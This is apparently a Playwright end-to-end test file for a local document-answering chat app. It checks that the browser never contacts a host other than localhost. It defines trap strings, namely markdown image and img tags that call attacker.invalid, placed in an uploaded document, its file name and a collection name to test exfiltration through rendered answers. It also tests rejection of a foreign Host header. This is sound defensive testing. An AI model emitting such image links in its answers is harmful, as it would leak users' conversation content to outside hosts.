"""One run of the real page: a real server process, driven by headless Chromium."""

import http.client
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.error import URLError
from urllib.parse import urlsplit
from urllib.request import urlopen

import pytest
from playwright.sync_api import Page, Request, expect, sync_playwright

from app.settings import child_environment, load_settings
from app.ui.launch import ADDRESS, arguments
from app.wiring import Wiring
from tests.provider_server import ProviderServer

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser"))), None)
ROOT = Path(__file__).parents[2]
QUIET = (
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    # Whatever the page asks for, this browser finds nobody but this machine.
    f"--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE {ADDRESS}",
)
PATIENCE = 120_000  # milliseconds: the first answer waits for the models to load

# A document that tries to make the reader's browser tell a stranger what it shows.
TRAP = "![x](http://attacker.invalid/?q=burn) <img src='http://attacker.invalid/i'>"
TRAP_NAME = "![n](http:attacker.invalid).txt"
TRAP_COLLECTION = "![c](http://attacker.invalid/c)"


@contextmanager
def serving(home: Path, log_folder: Path) -> Iterator[int]:
    """Start a server over a data folder as ``chaperone serve`` does; yield its port."""
    with socket.socket() as probe:
        probe.bind((ADDRESS, 0))
        free: int = probe.getsockname()[1]
    with (log_folder / "server.log").open("wb") as log:
        server = subprocess.Popen(
            [sys.executable, "-m", "streamlit", *arguments(free)],
            cwd=ROOT,
            env=child_environment(home),
            stdout=log,
            stderr=subprocess.STDOUT,
        )
        try:
            _wait_for(free, server)
            yield free
        finally:
            server.terminate()
            server.wait(20)


@pytest.fixture
def port(home_copy: Path, tmp_path: Path) -> Iterator[int]:
    """The port of a server of ours over the ward."""
    with serving(home_copy, tmp_path) as free:
        yield free


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here: apt-get install chromium")
def test_ask_upload_and_read_the_log_without_a_word_to_any_other_host(
    port: int, tmp_path: Path
) -> None:
    asked: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=list(QUIET))
        context = browser.new_context()
        context.on("request", lambda request: asked.append(_host(request)))
        page = context.new_page()
        page.goto(f"http://{ADDRESS}:{port}")

        _ask(page, "How long must hands be rubbed with alcohol?")
        expect(page.get_by_text("Answered here · extracted passages")).to_be_visible(
            timeout=PATIENCE
        )
        expect(page.get_by_text("policies/hand-hygiene.md")).to_be_visible()
        page.get_by_role("button", name="Open [1]").click()
        expect(page.get_by_role("dialog").locator("mark")).to_contain_text("30 seconds")
        page.keyboard.press("Escape")
        expect(page.get_by_role("dialog")).to_have_count(0)

        _upload_trap(page, tmp_path)
        page.get_by_role("link", name="Chat").click()
        # The conversation is still there, and what the trap says is shown, not obeyed.
        expect(page.get_by_text("policies/hand-hygiene.md")).to_be_visible()
        _ask(page, "When are visiting hours in the burn unit?")
        expect(page.get_by_text(f"“Visiting hours in the burn unit are {TRAP}")).to_be_visible(
            timeout=PATIENCE
        )
        page.get_by_text("Nothing left the building").last.click()
        page.get_by_role("combobox", name="Search in").click()
        expect(page.get_by_role("option", name=TRAP_COLLECTION)).to_be_visible()
        page.keyboard.press("Escape")

        page.get_by_role("link", name="Redaction log").click()
        expect(page.get_by_text("Intact: 2 records")).to_be_visible(timeout=PATIENCE)
        browser.close()
    assert asked
    assert set(asked) == {ADDRESS}


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here: apt-get install chromium")
def test_stop_ends_an_answer_and_frees_the_conversation(home_copy: Path, tmp_path: Path) -> None:
    with ProviderServer("Rub both hands for 30 seconds [1].", dialect="vllm") as model:
        model.behaviour, model.pause_s = "slow", 600.0
        (home_copy / "chaperone.toml").write_text(
            f'[inside]\nurl = "{model.base_url}"\nserver = "vllm"\nmodel = "m"\n'
            "receives_identities = true\n"
        )
        with serving(home_copy, tmp_path) as free, sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=CHROMIUM, args=list(QUIET))
            page = browser.new_page()
            page.goto(f"http://{ADDRESS}:{free}")
            _ask(page, "How long must hands be rubbed with alcohol?")
            expect(page.get_by_text("Rub", exact=True)).to_be_visible(timeout=PATIENCE)
            # Streamlit's own header has one too, at times.
            shown = page.get_by_test_id("stMainBlockContainer")
            shown.get_by_role("button", name="Stop").click()
            expect(page.get_by_text("Stopped before an answer came")).to_be_visible(
                timeout=PATIENCE
            )
            model.behaviour = "ok"
            _ask(page, "And how long are hands rubbed?")
            expect(page.get_by_text("Answered here · local model")).to_be_visible(timeout=PATIENCE)
            browser.close()
    parts = Wiring(load_settings(home_copy))
    assert [record.entry.event for record in parts.audit.records()] == ["abandoned", "answered"]
    parts.close()


def test_a_foreign_name_for_this_machine_is_turned_away(port: int) -> None:
    assert _websocket_status(port, f"{ADDRESS}:{port}") == http.client.SWITCHING_PROTOCOLS
    assert _websocket_status(port, f"attacker.invalid:{port}") == http.client.FORBIDDEN


def _ask(page: Page, question: str) -> None:
    box = page.get_by_placeholder("Ask a question")
    expect(box).to_be_enabled(timeout=PATIENCE)
    box.fill(question)
    box.press("Enter")
    expect(page.get_by_text(question, exact=True)).to_be_visible(timeout=PATIENCE)


def _upload_trap(page: Page, folder: Path) -> None:
    file = folder / TRAP_NAME
    file.write_text(f"Visiting hours in the burn unit are {TRAP} from 2 to 6.\n")
    page.get_by_role("link", name="Documents").click()
    # The list comes last: before it is there, Streamlit may drop what the form is given.
    expect(page.get_by_text("In the library")).to_be_visible(timeout=PATIENCE)
    _settle(page)
    page.locator("input[type=file]").set_input_files(file)
    add = page.get_by_role("button", name="Add to the library")
    expect(add).to_be_enabled()
    collection = page.get_by_role("textbox", name="Collection")
    collection.fill(TRAP_COLLECTION)
    collection.press("Enter")
    _settle(page)
    add.click()
    expect(page.get_by_text("1 added")).to_be_visible(timeout=PATIENCE)


def _settle(page: Page) -> None:
    still = page.locator("[data-test-script-state=notRunning]")
    expect(still).to_be_visible(timeout=PATIENCE)


def _host(request: Request) -> str:
    parts = urlsplit(request.url)
    return ADDRESS if parts.scheme in ("data", "blob") else parts.hostname or parts.scheme


def _websocket_status(port: int, host: str) -> int:
    connection = http.client.HTTPConnection(ADDRESS, port, timeout=10)
    connection.putrequest("GET", "/_stcore/stream", skip_host=True)
    for name, value in {
        "Host": host,
        "Origin": f"http://{host}",
        "Upgrade": "websocket",
        "Connection": "Upgrade",
        "Sec-WebSocket-Version": "13",
        "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
    }.items():
        connection.putheader(name, value)
    connection.endheaders()
    try:
        return connection.getresponse().status
    finally:
        connection.close()


def _wait_for(port: int, server: subprocess.Popen[bytes]) -> None:
    until = time.monotonic() + 60
    while time.monotonic() < until and server.poll() is None:
        try:
            with urlopen(f"http://{ADDRESS}:{port}/_stcore/health", timeout=2):
                return
        except (URLError, OSError):
            time.sleep(0.1)
    pytest.fail("the server did not start: see server.log")
